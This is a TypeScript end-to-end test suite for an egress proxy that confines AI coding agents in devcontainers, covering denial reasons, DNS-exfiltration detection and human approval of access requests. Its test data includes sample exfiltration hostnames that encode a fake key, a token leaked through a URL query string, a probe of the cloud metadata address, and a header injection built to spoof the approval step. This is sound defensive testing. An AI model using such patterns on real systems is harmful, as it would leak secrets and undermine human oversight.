/*
 * Closing the loop, end to end, with a real locked container (the local Feature through the
 * devcontainer CLI), the `airlock` CLI bundle and a test host that is the internet and the DNS
 * resolver (dnsmasq logs every query it receives):
 *
 * - a refusal explains itself to the agent: X-Airlock-Reason and a body naming host, reason and
 *   how to ask; an origin cannot forge the header;
 * - a suspect name under an allowed wildcard is refused as exfil-suspect and the resolver never
 *   hears of it, while benign hashed names under it (and under a preset) are allowed and resolved;
 *   an exact entry is never refused for its score; `exfil: warn` lets a suspect through, flagged;
 * - the agent asks with airlock-request; the CLI sees it with its reason; approving applies it to
 *   the running container (no rebuild); a rejected one stays blocked and quiet;
 * - usage per entry is kept on the host across a container restart; propose reads the log.
 *
 * One container for every case (about 2-3 minutes with a warm image cache).
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as esbuild from 'esbuild';
import { containerLogs, docker, leftovers, newTestRun, removeEverything } from './lib/docker';
import { describeRun, runCliBundle, type RunResult } from './lib/process';
import { accessLog, assertProxyDenied, assertThrough, lastLogFor, shq, viaProxy, type LogLine } from './lib/probes';
import { createTestNetwork, type TestNetworkPlan } from './lib/testNetwork';
import { ensureTestHostImage, pageBody, startWebHost, type WebHost } from './lib/testHosts';
import { createWorkspace, REPO_ROOT, type Workspace } from './lib/workspace';
import { base32 } from '../unit/helpers/exfilCorpus';
import { scoreTarget } from '../../extension/core/exfil/score';

const LOOP_NETWORK: TestNetworkPlan = { subnetV4: '198.51.100.128/28', subnetV6: '2001:db8:a8::/64' };
const CLI_BUNDLE = path.join(REPO_ROOT, 'out', 'e2e-loop-cli', 'cli.js');

const ZONE = 'airlock-loop.example';
const ALLOWED = `allowed.${ZONE}`;
const DENIED = `denied.${ZONE}`;
/** Allowed, but the test resolver answers with the metadata address: refused after the lookup. */
const PRIVATE = `private.${ZONE}`;
const WILD = `cdn.${ZONE}`;
const WARN = `warn.${ZONE}`;
/** Benign hashed names under the scored wildcard: a 32-digit id and a CloudFront-style id. */
const BENIGN_HASHED = `6aa30f8b08e16409b46e0173d6de2f56.${WILD}`;
const BENIGN_ID = `d3c33hcgiwev3.${WILD}`;
/** Docker Hub's own R2 bucket: a hashed CDN name its preset lists. */
const PRESET_HASHED = 'docker-images-prod.6aa30f8b08e16409b46e0173d6de2f56.r2.cloudflarestorage.com';
const SUSPECT_HEX = `da39a3ee5e6b4b0d3255bfef95601890afd80709.${WILD}`;
const SUSPECT_B32 = `${base32(Buffer.from('AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI'))}.${WILD}`;
const SUSPECT_WARNED = `da39a3ee5e6b4b0d3255bfef95601890afd80709.${WARN}`;
/** Listed exactly, so never refused for its score (it scores as suspect). */
const EXACT_SUSPECT = `0a4d55a8d778e5022fab701977c5d840bbc486d0.${WILD}`;
const REQUESTED = `docs.${ZONE}`;
const REJECTED = `tracker.${ZONE}`;
const TOKEN = 'ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';

const POLICY = `# loop e2e policy
version: 1
mode: enforce
baseline: false
presets: [docker-hub]
allow:
  - ${ALLOWED}
  - ${PRIVATE}
  - ${EXACT_SUSPECT}
  - "*.${WILD}"
  - { host: "*.${WARN}", exfil: warn, reason: "reviewed: hashed build names" }
`;


function airlock(args: string[], env: NodeJS.ProcessEnv, timeoutMs = 120_000): Promise<RunResult> {
	return runCliBundle(CLI_BUNDLE, args, env, { timeoutMs });
}

describe('e2e: the agent asks, the person sees usage and exfiltration signals, propose drafts the policy', function () {
	this.timeout(900_000);
	const testRun = newTestRun('loop');
	let web: WebHost;
	let ws: Workspace;
	let env: NodeJS.ProcessEnv;
	let configHome: string;

	before(async function () {
		this.timeout(900_000);
		esbuild.buildSync({
			entryPoints: [path.join(REPO_ROOT, 'extension/cli/main.ts')], bundle: true, platform: 'node', target: 'node20', format: 'cjs',
			external: ['cpu-features', 'ssh2'], logLevel: 'warning', outfile: CLI_BUNDLE, mainFields: ['module', 'main'],
		});
		await ensureTestHostImage();
		const net = await createTestNetwork(testRun, LOOP_NETWORK);
		const webV4 = net.hostV4(10);
		// The test host answers every name under the zone and the preset's bucket name, and logs every query.
		web = await startWebHost(testRun, net, { hostNumber: 10, hostName: 'web', dnsNames: { [ZONE]: webV4, [PRESET_HASHED]: webV4, [PRIVATE]: '169.254.169.254' } });
		ws = createWorkspace(testRun, { name: 'loop', featureOptions: { allow: ALLOWED, mode: 'enforce' }, network: net, dns: webV4 });
		fs.writeFileSync(path.join(ws.folder, '.devcontainer', 'airlock.yaml'), POLICY);
		const up = await ws.up();
		if (up.code !== 0) {
			throw new Error(`devcontainer up failed\n${describeRun('devcontainer up', [ws.folder], up)}`);
		}
		console.log(`      devcontainer up took ${up.elapsedMs} ms`);
		configHome = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-e2e-loop-config-'));
		env = { ...process.env, XDG_CONFIG_HOME: configHome, AIRLOCK_APPROVER: 'person@e2e' };
		delete env.DOCKER_HOST;
		const approve = await airlock(['approve', '--yes', '--workspace', ws.folder], env);
		assert.equal(approve.code, 0, approve.stdout + approve.stderr);
		const apply = await airlock(['apply', '--workspace', ws.folder], env);
		assert.equal(apply.code, 0, apply.stdout + apply.stderr);
		const policy = await ws.rootExec(['cat', '/etc/airlock/policy']);
		assert.match(policy.stdout, new RegExp(`^exfil-warn \\*\\.${WARN.replace(/\./g, '\\.')}$`, 'm'), 'the exfil: warn setting reached the container');
	});

	afterEach(async function () {
		if (this.currentTest?.state === 'failed' && ws) {
			const d = await ws.rootExec(['sh', '-c', 'airlock-ctl status --json; tail -n 20 /var/log/airlock/cache.log; tail -n 20 /var/log/airlock/access.log']).catch((e: Error) => ({ stdout: '', stderr: e.message }));
			console.log(`--- container ---\n${d.stdout}${d.stderr}`);
			console.log(`--- test host ---\n${await containerLogs(web.container, 60)}`);
		}
	});

	after(async function () {
		this.timeout(300_000);
		if (ws) {
			await ws.remove();
		}
		await removeEverything(testRun);
		if (configHome) {
			fs.rmSync(configHome, { recursive: true, force: true });
		}
		assert.deepEqual(await leftovers(testRun), { containers: [], networks: [], volumes: [] });
	});

	async function control(): Promise<void> {
		assertThrough(await viaProxy(ws, `https://${ALLOWED}/index.html`), pageBody('web'));
	}

	function logLine(lines: LogLine[], host: string): LogLine & { exfil?: string; ask?: string } {
		const found = lines.filter((l) => l.host === host).pop();
		assert.ok(found, `no log line for ${host}`);
		return found as LogLine & { exfil?: string; ask?: string };
	}

	it('a refusal tells the agent why (header and body); an origin cannot forge the header', async () => {
		await control();
		const connect = await viaProxy(ws, `https://${DENIED}/`, ['-v']);
		assertProxyDenied(connect);
		assert.match(connect.stderr, /^< X-Airlock-Reason: not-allowlisted\r?$/m);
		const plain = await viaProxy(ws, `http://${DENIED}/`, ['-D', '/dev/stderr']);
		assertProxyDenied(plain);
		assert.match(plain.stderr, /^X-Airlock-Reason: not-allowlisted\r?$/m);
		assert.match(plain.body, /Reason: +not-allowlisted/);
		assert.match(plain.body, new RegExp(`airlock-request ${DENIED.replace(/\./g, '\\.')}:80 --why`));
		const port = await viaProxy(ws, `https://${ALLOWED}:8443/`, ['-v']);
		assert.match(port.stderr, /^< X-Airlock-Reason: port-not-allowed\r?$/m);
		const literal = await viaProxy(ws, `http://${web.ipv4}/`, ['-D', '/dev/stderr']);
		assert.match(literal.stderr, /^X-Airlock-Reason: ip-literal\r?$/m);
		const inner = await viaProxy(ws, `http://${PRIVATE}/latest/meta-data/`, ['-D', '/dev/stderr']);
		assertProxyDenied(inner);
		assert.match(inner.stderr, /^X-Airlock-Reason: private-destination\r?$/m);
		assert.match(inner.body, /Reason: +private-destination/);
		// An allowed origin that sends the header itself: it does not reach the agent.
		const spoof = await viaProxy(ws, `http://${ALLOWED}/cgi-bin/spoof`, ['-D', '/dev/stderr']);
		assert.equal(spoof.httpCode, 200, spoof.stderr);
		assert.equal(spoof.body, 'spoof\n');
		assert.doesNotMatch(spoof.stderr, /X-Airlock-Reason/i);
		const lines = await accessLog(ws);
		assert.equal(logLine(lines, DENIED).rule, 'not-allowlisted');
		assert.equal(logLine(lines, PRIVATE).rule, 'private-destination');
	});

	it('refuses a suspect name under an allowed wildcard before any DNS lookup; benign hashed names are allowed and resolved', async () => {
		await control();
		// Positive controls: benign hashed names under the scored wildcard and under a preset.
		assertThrough(await viaProxy(ws, `https://${BENIGN_HASHED}/index.html`), pageBody('web'));
		assertThrough(await viaProxy(ws, `https://${BENIGN_ID}/index.html`), pageBody('web'));
		assertThrough(await viaProxy(ws, `https://${PRESET_HASHED}/index.html`), pageBody('web'));
		// An exact entry is never refused for its score.
		assertThrough(await viaProxy(ws, `https://${EXACT_SUSPECT}/index.html`), pageBody('web'));

		assert.ok(scoreTarget({ host: EXACT_SUSPECT, base: WILD }).suspect, 'the exact entry scores as suspect: only its being exact lets it through');
		for (const suspect of [SUSPECT_HEX, SUSPECT_B32]) {
			assert.ok(scoreTarget({ host: suspect, base: WILD }).suspect, suspect);
			const out = await viaProxy(ws, `https://${suspect}/`, ['-v']);
			assertProxyDenied(out);
			assert.match(out.stderr, /^< X-Airlock-Reason: exfil-suspect\r?$/m, out.stderr);
		}
		const page = await viaProxy(ws, `http://${SUSPECT_HEX}/`, ['-D', '/dev/stderr']);
		assert.match(page.body, /Reason: +exfil-suspect/);
		assert.match(page.body, /hex-label/);
		// A credential in a plain-HTTP URL under the wildcard, as is and percent-encoded.
		const url = await viaProxy(ws, `http://ok.${WILD}/collect?k=${TOKEN}`, ['-D', '/dev/stderr']);
		assert.match(url.stderr, /^X-Airlock-Reason: exfil-suspect\r?$/m);
		const encoded = await viaProxy(ws, `http://ok2.${WILD}/collect?k=%67hp%5F${TOKEN.slice(4)}`, ['-D', '/dev/stderr']);
		assert.match(encoded.stderr, /^X-Airlock-Reason: exfil-suspect\r?$/m);

		const lines = await accessLog(ws);
		const hex = logLine(lines, SUSPECT_HEX);
		assert.deepEqual([hex.verdict, hex.enforced, hex.rule, hex.status], ['deny', true, 'exfil-suspect', 403]);
		assert.match(hex.exfil ?? '', /hex-label/);
		assert.match(logLine(lines, `ok.${WILD}`).exfil ?? '', /credential:github-token/);
		assert.match(logLine(lines, `ok2.${WILD}`).exfil ?? '', /credential:github-token/);
		assert.equal(logLine(lines, BENIGN_HASHED).rule, 'allowlisted');
		assert.equal(logLine(lines, EXACT_SUSPECT).exfil, '-', 'an exact entry is not even scored');

		const queries = await web.dnsQueries();
		for (const resolved of [BENIGN_HASHED, BENIGN_ID, PRESET_HASHED]) {
			assert.ok(queries.includes(resolved), `${resolved} is looked up (positive control); queries: ${queries.join(', ')}`);
		}
		for (const never of [SUSPECT_HEX, SUSPECT_B32, `ok.${WILD}`, `ok2.${WILD}`]) {
			assert.ok(!queries.includes(never), `the resolver must never hear of ${never}; queries: ${queries.join(', ')}`);
		}
	});

	it('exfil: warn lets a suspect name under a reviewed wildcard through, flagged in the log', async () => {
		await control();
		assertThrough(await viaProxy(ws, `https://${SUSPECT_WARNED}/index.html`), pageBody('web'));
		const line = await lastLogFor(ws, SUSPECT_WARNED, 443, 'CONNECT') as LogLine & { exfil?: string };
		assert.deepEqual([line.verdict, line.rule], ['allow', 'allowlisted']);
		assert.match(line.exfil ?? '', /hex-label/);
	});

	it('the agent asks with a reason; the CLI sees it; approving makes the host reachable without a rebuild', async () => {
		await control();
		assertProxyDenied(await viaProxy(ws, `https://${REQUESTED}/`));
		const containerBefore = await ws.containerId();
		const ask = await ws.exec(`airlock-request ${REQUESTED} --why ${shq('read the API docs for the client')}`);
		assert.equal(ask.code, 0, ask.stdout + ask.stderr);
		assert.match(ask.stdout, new RegExp(`asked the person on the host to allow ${REQUESTED.replace(/\./g, '\\.')}`));
		// The command checks what it can in the container; the host checks everything again.
		const refused = await ws.exec('airlock-request 169.254.169.254 --why x; echo "exit=$?"; airlock-request api.example.com; echo "exit=$?"');
		assert.deepEqual(refused.stdout.trim().split('\n'), ['exit=1', 'exit=1']);
		assert.match(refused.stderr, /does not start with a letter/);
		assert.match(refused.stderr, /say why with --why/);
		// Bypassing the command: a raw request with control characters and markup is bounded on the host.
		await ws.exec(`curl -sS -o /dev/null -H ${shq('X-Airlock-Request: v=1;host=other.airlock-loop.example;port=;why=%1B%5B31m[x](command:airlock.approve)')} http://request.airlock.invalid/`);

		const list = await airlock(['requests', '--json', '--workspace', ws.folder], env);
		assert.equal(list.code, 0, list.stderr);
		const json = JSON.parse(list.stdout) as { requests: { id: string; target: string; why: string; state: string }[] };
		const mine = json.requests.find((r) => r.target === REQUESTED);
		assert.ok(mine, list.stdout);
		assert.equal(mine.why, 'read the API docs for the client');
		const raw = json.requests.find((r) => r.target === `other.${ZONE}`);
		assert.equal(raw?.why, '[31m[x] (command:airlock.approve)', 'escape characters and link syntax are neutralised');

		const approve = await airlock(['requests', 'approve', mine.id, '--yes', '--workspace', ws.folder], env);
		assert.equal(approve.code, 0, approve.stdout + approve.stderr);
		assert.match(approve.stdout, /Applied to .*: docs\.airlock-loop\.example is reachable now, no rebuild needed/);
		assertThrough(await viaProxy(ws, `https://${REQUESTED}/index.html`), pageBody('web'));
		assert.equal(await ws.containerId(), containerBefore, 'the same container: no rebuild');
		assert.match(fs.readFileSync(path.join(ws.folder, '.devcontainer', 'airlock.yaml'), 'utf8'), /^# loop e2e policy\n[\s\S]*- \{ host: docs\.airlock-loop\.example, reason: "requested by the agent: read the API docs for the client" \}\n$/);
	});

	it('a rejected request stays blocked, and the agent asking again is not raised', async () => {
		await control();
		assert.equal((await ws.exec(`airlock-request ${REJECTED} --why telemetry`)).code, 0);
		const list = JSON.parse((await airlock(['requests', '--json', '--workspace', ws.folder], env)).stdout) as { requests: { id: string; target: string }[] };
		const id = list.requests.find((r) => r.target === REJECTED)?.id;
		assert.ok(id);
		const reject = await airlock(['requests', 'reject', id, '--workspace', ws.folder], env);
		assert.equal(reject.code, 0, reject.stderr);
		assertProxyDenied(await viaProxy(ws, `https://${REJECTED}/`));
		assert.equal((await ws.exec(`airlock-request ${REJECTED} --why 'please, really'`)).code, 0);
		const again = JSON.parse((await airlock(['requests', '--json', '--workspace', ws.folder], env)).stdout) as { requests: { target: string }[] };
		assert.ok(!again.requests.some((r) => r.target === REJECTED), 'not raised again while the rejection is fresh');
		assertProxyDenied(await viaProxy(ws, `https://${REJECTED}/`));
	});

	it('keeps usage per entry on the host across a container restart; propose reads the blocked log', async () => {
		await control();
		const before = JSON.parse((await airlock(['plan', '--usage', '--json', '--workspace', ws.folder], env)).stdout) as { entries: { host: string; usage: { count: number } | null }[] };
		const allowedBefore = before.entries.find((e) => e.host === ALLOWED)?.usage?.count ?? 0;
		assert.ok(allowedBefore >= 3, `uses of ${ALLOWED} were counted: ${allowedBefore}`);
		assert.ok((before.entries.find((e) => e.host === `*.${WILD}`)?.usage?.count ?? 0) >= 2, 'uses under the wildcard count for it');
		const restart = await docker(['restart', '-t', '2', await ws.containerId()], { timeoutMs: 120_000 });
		assert.equal(restart.code, 0, restart.stderr);
		let back = false;
		for (let i = 0; i < 40 && !back; i++) {
			back = (await viaProxy(ws, `https://${ALLOWED}/index.html`)).exit === 0;
		}
		assert.ok(back, 'the proxy came back after the restart');
		const countOf = async (): Promise<number> => (JSON.parse((await airlock(['plan', '--usage', '--json', '--workspace', ws.folder], env)).stdout) as { entries: { host: string; usage: { count: number } | null }[] }).entries.find((e) => e.host === ALLOWED)?.usage?.count ?? 0;
		const afterRestart = await countOf();
		assert.ok(afterRestart > allowedBefore, `the uses before the restart are kept and the new one counted (${allowedBefore} → ${afterRestart})`);
		assert.equal(await countOf(), afterRestart, 'reading the log again counts nothing twice');
		const text = await airlock(['plan', '--usage', '--workspace', ws.folder], env);
		assert.match(text.stdout, /Usage \(recorded on this machine since/);

		const propose = await airlock(['propose', '--json', '--workspace', ws.folder], env);
		assert.equal(propose.code, 0, propose.stderr);
		const proposal = JSON.parse(propose.stdout) as { entries: { host: string }[]; skipped: { target: string; why: string }[]; diff: string };
		assert.ok(proposal.entries.some((e) => e.host === DENIED), propose.stdout);
		assert.ok(proposal.skipped.some((s) => s.target === SUSPECT_HEX && /exfiltration/.test(s.why)));
		assert.match(proposal.diff, /^\+ {2}- denied\.airlock-loop\.example|^\+ {2}- \{ host: denied\.airlock-loop\.example/m);

		// A workspace with no container: nothing was read, and propose says so instead of "nothing to propose".
		const idle = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-e2e-loop-idle-'));
		try {
			fs.mkdirSync(path.join(idle, '.devcontainer'));
			fs.writeFileSync(path.join(idle, '.devcontainer', 'airlock.yaml'), 'version: 1\nallow: [api.example.com]\n');
			const none = await airlock(['propose', '--workspace', idle], env);
			assert.equal(none.code, 1, none.stdout + none.stderr);
			assert.match(none.stderr, /no container is running for this workspace, so there is no proxy log to propose from/);
			assert.match(none.stderr, /airlock propose --log FILE/);
		} finally {
			fs.rmSync(idle, { recursive: true, force: true });
		}
	});
});
